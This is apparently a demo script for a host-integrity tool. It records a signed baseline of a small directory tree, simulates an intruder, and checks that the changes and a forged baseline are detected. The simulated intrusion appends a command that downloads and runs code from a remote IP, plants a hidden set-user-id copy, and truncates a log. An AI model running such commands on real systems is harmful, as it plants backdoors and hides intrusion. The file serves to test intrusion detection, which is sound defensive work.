# 50-integrity.sh - host integrity: a signed baseline of a small tree, then a
# check after a change and a planted set-user-id file.
say "Host integrity: record a tree in a signed baseline"
mkdir -p "$DEMO/srv/bin" "$DEMO/srv/log"
echo "#!/bin/sh" >"$DEMO/srv/bin/tool"
printf 'started\nrequest 1\nrequest 2\n' >"$DEMO/srv/log/app.log"
cat >"$DEMO/srv.policy" <<POLICY
root $DEMO/srv
grow $DEMO/srv/log
system $DEMO/srv/bin
POLICY
run baseline create -q --policy "$DEMO/srv.policy" -o "$DEMO/srv.baseline"

say "An intruder changes a binary, plants a set-user-id copy and trims the log"
echo "curl -s http://203.0.113.9/x | sh" >>"$DEMO/srv/bin/tool"
cp "$DEMO/srv/bin/tool" "$DEMO/srv/bin/.tool" && chmod 4755 "$DEMO/srv/bin/.tool"
printf 'started\n' >"$DEMO/srv/log/app.log"
run baseline check -q --baseline "$DEMO/srv.baseline" || true

say "A baseline edited after signing is refused"
sed 's/	0755	/	0777	/' "$DEMO/srv.baseline" >"$DEMO/forged.baseline"
run baseline check -q --baseline "$DEMO/forged.baseline" || true
